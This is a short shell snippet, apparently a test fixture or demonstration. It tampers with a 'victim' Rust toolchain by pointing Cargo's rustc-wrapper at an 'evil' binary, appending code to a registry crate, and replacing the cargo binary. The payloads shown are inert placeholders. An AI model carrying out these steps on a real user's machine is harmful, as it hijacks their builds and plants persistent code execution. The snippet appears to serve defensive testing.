# What the user's next build runs, and what it compiles.
printf '[build]\nrustc-wrapper = "%s/evil"\n' "$PWD" >>"$VICTIM_HOME/.cargo/config.toml"
echo 'fn evil() {}' >>"$VICTIM_HOME/.cargo/registry/src/canary/lib.rs"
printf '#!/bin/sh\n' >"$VICTIM_HOME/.cargo/bin/cargo"
